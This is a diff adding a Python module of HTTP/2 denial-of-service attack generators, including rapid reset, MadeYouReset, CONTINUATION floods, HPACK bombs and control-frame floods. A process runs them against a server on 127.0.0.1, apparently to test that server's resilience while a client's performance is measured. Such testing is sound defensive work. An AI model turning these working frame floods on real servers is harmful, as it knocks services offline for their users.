@@ -1,0 +1,274 @@
+"""Attacks on a server, each an endless run of bytes, and the process that sends them.
+
+`run()` is called in a process of its own, so that an attack and the client that is measured
+beside it do not share an interpreter. It goes on for a time with one connection after
+another, as each is closed by the server, and returns what became of them.
+"""
+
+import itertools
+import os
+import select
+import socket
+import ssl
+import struct
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from functools import partial
+
+import raw
+from h2.errors import ErrorCodes
+from hpack import Encoder
+
+#: Bytes sent in one call.
+BATCH = 32 * 1024
+
+#: Seconds that the server has to answer the end of an attack.
+ANSWER_TIMEOUT = 30.0
+
+
+# -- the attacks ------------------------------------------------------------------------------
+
+
+def _request(path: str = "/", method: str = "GET", *extra: raw.Field) -> bytes:
+    """A header block that needs no state."""
+    return Encoder().encode(raw.request_fields(path, method, *extra))
+
+
+def _streams() -> Iterator[int]:
+    return itertools.count(1, 2)
+
+
+def rapid_reset(path: str) -> Iterator[bytes]:
+    """CVE-2023-44487."""
+    block = Encoder().encode(raw.request_fields(path))
+    yield raw.headers(1, block)
+    yield raw.rst_stream(1)
+    # From now on in the dynamic table, as an attacker would have it.
+    encoder = Encoder()
+    encoder.encode(raw.request_fields(path))
+    block = encoder.encode(raw.request_fields(path))
+    for stream_id in itertools.count(3, 2):
+        yield raw.headers(stream_id, block) + raw.rst_stream(stream_id)
+
+
+def made_you_reset(fault: Callable[[int], bytes], *, end_stream: bool = True) -> Iterator[bytes]:
+    """CVE-2025-8671: the server resets the stream, for `fault`."""
+    block = _request("/sleep?s=0.2", "GET" if end_stream else "POST")
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block, end_stream=end_stream) + fault(stream_id)
+
+
+def malformed() -> Iterator[bytes]:
+    block = Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", "x")])
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block)
+
+
+def content_length_differs() -> Iterator[bytes]:
+    block = _request("/echo", "POST", ("content-length", "5"))
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block, end_stream=False) + raw.data(stream_id, b"123")
+
+
+def past_the_concurrency() -> Iterator[bytes]:
+    block = _request("/sleep?s=3")
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block)
+
+
+def continuation_flood(fragment: bytes) -> Iterator[bytes]:
+    """CVE-2024-27316."""
+    yield raw.headers(1, _request(), end_headers=False)
+    while True:
+        yield raw.continuation(1, fragment, end_headers=False)
+
+
+def big_headers(fields: list[raw.Field]) -> Iterator[bytes]:
+    block = Encoder().encode([*raw.request_fields(), *fields])
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block[:16384], end_headers=len(block) <= 16384)
+        for start in range(16384, len(block), 16384):
+            last = start + 16384 >= len(block)
+            yield raw.continuation(stream_id, block[start : start + 16384], end_headers=last)
+
+
+def http2_bomb() -> Iterator[bytes]:
+    """CVE-2026-49975: 2 KB of references to one field of the table."""
+    encoder = Encoder()
+    encoder.encode([("a", "b" * 30)])
+    yield raw.headers(1, _request() + Encoder().encode([("a", "b" * 30)]))
+    for stream_id in itertools.count(3, 2):
+        yield raw.headers(stream_id, _request() + b"\xbe" * 2000)
+
+
+def forever(frame: bytes) -> Iterator[bytes]:
+    return itertools.repeat(frame)
+
+
+def on_a_stream(frame: bytes, path: str = "/echo") -> Iterator[bytes]:
+    yield raw.headers(1, _request(path, "POST"), end_stream=False)
+    yield from forever(frame)
+
+
+def new_settings() -> Iterator[bytes]:
+    """65,536 settings that nobody knows, again and again."""
+    for start in itertools.cycle(range(0, 65536, 2000)):
+        numbers = (n & 0xFFFF for n in range(start, start + 2000))
+        payload = b"".join(struct.pack(">HL", n, 1) for n in numbers if n > 8)
+        yield raw.pack(4, 0, 0, payload)
+
+
+def window_of_one_byte() -> Iterator[bytes]:
+    """CVE-2019-9511: the response, byte by byte."""
+    yield raw.settings({4: 0})
+    yield raw.headers(1, _request("/bytes?n=10000000"))
+    yield from forever(raw.window_update(1, 1))
+
+
+_UNKNOWN_FRAME = raw.pack(0xEE, 0, 0, b"")
+_PRIORITY_UPDATE = raw.pack(0x10, 0, 0, b"\0\0\0\1u=1")
+
+ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
+    "rapid-reset": partial(rapid_reset, "/"),
+    "rapid-reset-of-slow-views": partial(rapid_reset, "/sleep?s=0.2"),
+    "made-you-reset-by-zero-window-update": partial(
+        made_you_reset, partial(raw.window_update, increment=0)
+    ),
+    "made-you-reset-by-window-overflow": partial(
+        made_you_reset, partial(raw.window_update, increment=2**31 - 1)
+    ),
+    "made-you-reset-by-data-past-the-end": partial(made_you_reset, raw.data),
+    "made-you-reset-by-priority": partial(
+        made_you_reset, lambda stream_id: raw.priority(stream_id, stream_id)
+    ),
+    "malformed-requests": malformed,
+    "content-length-differs": content_length_differs,
+    "past-the-concurrency": past_the_concurrency,
+    "continuation-flood": partial(continuation_flood, b""),
+    "continuation-flood-of-fields": partial(continuation_flood, b"\x82" * 100),
+    "many-fields": partial(big_headers, [(f"x-{i}", "1") for i in range(900)]),
+    "very-many-fields": partial(big_headers, [(f"x{i}", "") for i in range(9000)]),
+    "long-field": partial(big_headers, [("x", "a" * 90_000)]),
+    "cookie-in-thousands": partial(big_headers, [("cookie", f"{i}=1") for i in range(5000)]),
+    "http2-bomb": http2_bomb,
+    "ping": partial(forever, raw.ping()),
+    "ping-ack": partial(forever, raw.ping(ack=True)),
+    "settings": partial(forever, raw.settings({4: 65535})),
+    "empty-settings": partial(forever, raw.settings()),
+    "settings-ack": partial(forever, raw.settings_ack()),
+    "unknown-settings": new_settings,
+    "priority": partial(forever, raw.priority(1)),
+    "priority-of-new-streams": lambda: (raw.priority(i) for i in _streams()),
+    "window-update": partial(forever, raw.window_update(0, 1)),
+    "window-update-of-a-stream": partial(on_a_stream, raw.window_update(1, 1)),
+    "window-of-one-byte": window_of_one_byte,
+    "empty-data": partial(on_a_stream, raw.data(1, end=False)),
+    "data-of-padding": partial(on_a_stream, raw.data(1, end=False, pad=10)),
+    "unknown-frames": partial(forever, _UNKNOWN_FRAME),
+    "priority-update": partial(forever, _PRIORITY_UPDATE),
+}
+
+#: Those that make the server answer each frame: the attacker may refuse to read the answers.
+ANSWERED = ("rapid-reset", "ping", "settings", "malformed-requests", "past-the-concurrency")
+
+
+# -- the attacker -----------------------------------------------------------------------------
+
+
+@dataclass
+class Outcome:
+    """What became of the connections of an attack."""
+
+    connections: int = 0
+    goaways: Counter[str] = field(default_factory=Counter)  # by error code
+    resets: Counter[str] = field(default_factory=Counter)  # ended without a GOAWAY
+    sent: int = 0  # bytes
+
+
+class _Attacker:
+    def __init__(self, port: int, cafile: str, *, reads: bool) -> None:
+        context = ssl.create_default_context(cafile=cafile)
+        context.set_alpn_protocols(["h2"])
+        sock = socket.create_connection(("127.0.0.1", port), ANSWER_TIMEOUT)
+        self._sock = context.wrap_socket(sock, server_hostname="localhost")
+        self._sock.setblocking(False)
+        self._reads = reads
+        self._received = bytearray()
+        self.goaway: str | None = None
+        self.closed = ""
+        self.sent = 0
+
+    def attack(self, chunks: Iterator[bytes]) -> None:
+        """Send until the server closes."""
+        pending = raw.PREFACE + raw.settings()
+        while not self.closed:
+            while len(pending) < BATCH and (chunk := next(chunks, b"")):
+                pending += chunk
+            pending = pending[self._send(pending) :]
+        self._sock.close()
+
+    def _send(self, pending: bytes) -> int:
+        try:
+            if self._reads:
+                self._receive()
+            sent = self._sock.send(pending)
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
+            readable = [self._sock] if self._reads else []
+            if not any(select.select(readable, [self._sock], [], ANSWER_TIMEOUT)):
+                self.closed = "never"
+            return 0
+        except OSError as exc:
+            self._at_the_end(exc)
+            return 0
+        self.sent += sent
+        return sent
+
+    def _at_the_end(self, exc: OSError) -> None:
+        """The server no longer reads: see what it said last."""
+        self.closed = type(exc).__name__
+        self._sock.settimeout(ANSWER_TIMEOUT)
+        try:
+            while data := self._sock.recv(65536):
+                self._parse(data)
+        except OSError as at_last:
+            self.closed = type(at_last).__name__
+        else:
+            self.closed = "closed"
+
+    def _receive(self) -> None:
+        try:
+            while data := self._sock.recv(65536):
+                self._parse(data)
+            self.closed = "closed"
+        except (ssl.SSLWantReadError, BlockingIOError):
+            pass
+
+    def _parse(self, data: bytes) -> None:
+        received = self._received
+        received += data
+        while len(received) >= 9:
+            length = int.from_bytes(received[:3])
+            if len(received) < 9 + length:
+                return
+            if received[3] == 7:
+                self.goaway = ErrorCodes(int.from_bytes(received[13:17])).name
+            del received[: 9 + length]
+
+
+def run(name: str, port: int, cafile: str, seconds: float, reads: bool) -> Outcome:
+    """Attack for so many seconds, with a new connection whenever one is closed."""
+    os.nice(10)  # the machine's second core is for the client that is measured
+    outcome = Outcome()
+    until = time.monotonic() + seconds
+    while not outcome.connections or time.monotonic() < until:
+        attacker = _Attacker(port, cafile, reads=reads)
+        attacker.attack(ATTACKS[name]())
+        outcome.connections += 1
+        outcome.sent += attacker.sent
+        if attacker.goaway:
+            outcome.goaways[attacker.goaway] += 1
+        else:
+            outcome.resets[attacker.closed] += 1
+    return outcome
